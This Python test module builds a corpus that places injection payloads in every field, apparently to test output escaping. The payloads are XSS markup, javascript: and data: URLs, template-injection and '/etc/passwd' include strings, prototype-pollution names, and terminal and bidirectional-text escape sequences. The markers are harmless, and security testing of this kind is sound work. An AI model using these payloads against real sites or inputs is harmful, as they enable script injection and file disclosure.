"""Text that tries to become code in a page, a picture, a report or a terminal, and a corpus that has it in every field.

Each payload would, where it runs, set `window.__hit`, open a dialog, or ask for an address below `payload.invalid`.
"""

from __future__ import annotations

from dataclasses import replace

from graphkit.corrections.notes import Notes
from graphkit.model import ActorName, Corpus, Correction, Document, Note, PublicationDate, Relation, Skipped, Story
from tests.corpora import Said, Told, corpus

HIT = "window.__hit=1"
FAR = "//payload.invalid"
_ENCODED = "".join(f"&#{ord(letter)};" for letter in f"<script>{HIT}</script>")

MARKUP = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</SCRIPT \n><ScRiPt src=http:{FAR}/1.js></script >",
    f"<script type=module>import 'http:{FAR}/2.js'</script>",
    f'<script type="importmap">{{"imports":{{"a":"http:{FAR}/3.js"}}}}</script>',
    f"<!--<script>{HIT}//-->",
    f"--><script>{HIT}</script><!--",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"]]><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</textarea></noscript></template><img src=x onerror={HIT}>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"<img src=x onerror={HIT}>",
    f"<img src=http:{FAR}/4.png>",
    f"<img srcset='http:{FAR}/5.png 1x' loading=eager>",
    f"<image href=x onerror={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={HIT}>#x'/></svg>",
    f"<svg><foreignObject><iframe src=http:{FAR}/6></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<math href='javascript:{HIT}'>press</math>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<marquee onstart={HIT}>",
    f"<video src=x onerror={HIT}><source onerror={HIT}></video>",
    f"<audio src=http:{FAR}/7.mp3 autoplay>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    f"<object data=http:{FAR}/8></object><embed src=http:{FAR}/9>",
    f"<meta http-equiv=refresh content='0;url=http:{FAR}/10'>",
    f"<base href=http:{FAR}/>",
    f"<link rel=stylesheet href=http:{FAR}/11.css>",
    f"<link rel=prefetch href=http:{FAR}/12><link rel=dns-prefetch href={FAR}>",
    f"<style>@import 'http:{FAR}/13.css';*{{background:url(http:{FAR}/14.png)}}</style>",
    f'<p style="background:url(http:{FAR}/15.png);width:expression({HIT})">',
    f"<form action=http:{FAR}/16><button formaction=javascript:{HIT}>press</button></form>",
    f"<a href=javascript:{HIT}>press</a>",
    f"<a href='&#106;avascript:{HIT}' ping=http:{FAR}/17>press</a>",
    f"<template shadowrootmode=open><script>{HIT}</script></template>",
    f"<xml onreadystatechange={HIT}><x-element is=script>",
)
OUT_OF_QUOTES = (
    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    f"' onclick='{HIT}' x='",
    f"` onpointerenter=`{HIT}` x=`",
    f'"}}];{HIT};[{{"',
    f"\\'-{HIT}-\\'",
    f'\\"-({HIT})-"',
    f"*/{HIT}/*",
    f"\u2028{HIT}//\u2029",
    f"//\r{HIT}",
    f"${{{HIT}}}",
    f"`;{HIT};`",
    "{{constructor.constructor('window.__hit=1')()}}",
    "{{title}} {{data}} {{script}} {{policy}}",
    "{% include '/etc/passwd' %}<%= 7*7 %>#{7*7}@{7*7}",
    "\\1 \\g<0> \\u003cscript\\u003e $& $1 $`",
    "%3Cscript%3Ewindow.__hit=1%3C/script%3E",
    _ENCODED,
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "&quot;&apos;&#0;&#x110000;&bogus;&amp",
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt\t:{HIT}",
    f" \x01javascript:{HIT}",
    f"javascript://example.org/%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX2hpdD0xIi8+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"blob:http:{FAR}/18",
    f"url(http:{FAR}/19.png)",
    f"red;background:url(http:{FAR}/20.png)",
    f'https:{FAR}/" onclick="{HIT}',
)
MARKDOWN = (
    f"[press](javascript:{HIT})",
    f"![x](http:{FAR}/21.png)",
    f"[x]: http:{FAR}/22 '\"><script>{HIT}</script>'",
    f"<javascript:{HIT}>",
    f"# heading\n\n<img src=x onerror={HIT}>\n\n| a | b |\n|---|---|",
    f"```\n</code><script>{HIT}</script>",
    f"a | b `c` **d** ~~e~~ $\\href{{javascript:{HIT}}}{{f}}$",
)
ODD_NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "valueOf",
    "then",
    "length",
    "NaN",
    "null",
    "undefined",
    "unconnected",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "\x00\x07\x1b[2J\x1b]0;title\x07\x9b31m\x7f",
    "\x1b]8;;http://payload.invalid/23\x1b\\press\x1b]8;;\x1b\\",
    "a\u0300\u0301\u0302\u0303" * 40,
    "\ufeff\u200b\u2060zero width",
    "\ufdd0 \uffff \U000f0000",
    "Long " + "name" * 500,
)
PAYLOADS = (*MARKUP, *OUT_OF_QUOTES, *ADDRESSES, *MARKDOWN, *ODD_NAMES)
TYPES = ("PERSON", "ORG", "GPE", "LOC", "NORP", "FAC")


def hostile_corpus(payloads: tuple[str, ...] = PAYLOADS) -> Corpus:
    """Each payload as a name, an alias, a type, a Wikidata item, a title, a file, an outlet, an author, an address, a
    language, words of a sentence, a predicate, an event type and its class, a tense, a rule of a mention, a membership
    and a claim, a speaker, a note on a file and a reason for skipping.
    """
    number = len(payloads)
    turned = [payloads[n:] + payloads[:n] for n in range(number)]  # so that each stands beside ever other ones
    told = [Told(f"{n:03} {row[0]}.txt", "2020", (f"{row[0]} {row[2]} {row[1]}.",)) for n, row in enumerate(turned)]
    said = [Said(one.source, 0, row[0], row[2], row[1], row[3]) for one, row in zip(told, turned, strict=True)]
    actors = {name: TYPES[n % 6] if n % 2 else name for n, name in enumerate(payloads)}
    skipped = [Skipped(f"{row[0]}.bin", row[1]) for row in turned]
    made = corpus(told, actors, said, skipped, title=payloads[0])
    return replace(
        made,
        documents=tuple(_described(each, row) for each, row in zip(made.documents, turned, strict=True)),
        mentions=tuple(replace(each, rule=payloads[n % number]) for n, each in enumerate(made.mentions)),
        actors=tuple(
            replace(each, aliases=(each.name[::-1], *turned[n][4:7]), wikidata=turned[n][8])
            for n, each in enumerate(made.actors)
        ),
        relations=tuple(_told(each, turned[n]) for n, each in enumerate(made.relations)),
        memberships=tuple(replace(each, rule=payloads[n % number]) for n, each in enumerate(made.memberships)),
        notes=tuple(sorted(Note(row[0], row[1]) for row in turned)),
        stories=tuple(Story(each.id, (each.id,)) for each in made.documents),
    )


def hostile_notes(corpus: Corpus, payloads: tuple[str, ...] = PAYLOADS) -> Notes:
    """A note on each actor whose words, author and day are payloads, as a file of corrections may have it."""
    turned = [payloads[n:] + payloads[:n] for n in range(len(payloads))]
    return {
        actor.id: (Correction("note", (ActorName(actor.name),), to=row[3], author=row[4], date=row[5]),)
        for actor, row in zip(corpus.actors, turned, strict=False)
    }


def _described(document: Document, row: tuple[str, ...]) -> Document:
    """The document with a row of payloads for what its file tells; addresses where an address is told."""
    url = next((each for each in row if each in ADDRESSES), row[3])
    date = PublicationDate("2020-01-02", row[7])
    return replace(document, title=row[0], date=date, outlet=row[1], author=row[2], url=url, language=row[4])


def _told(relation: Relation, row: tuple[str, ...]) -> Relation:
    """The relation as an event of no known type, by a rule of no known name, said by its own subject."""
    claims = tuple(
        replace(each, rule=row[1], event=row[2], speaker=each.subject, tense=row[3], quad=row[4])
        for each in relation.claims
    )
    return replace(relation, event=row[2], claims=claims)
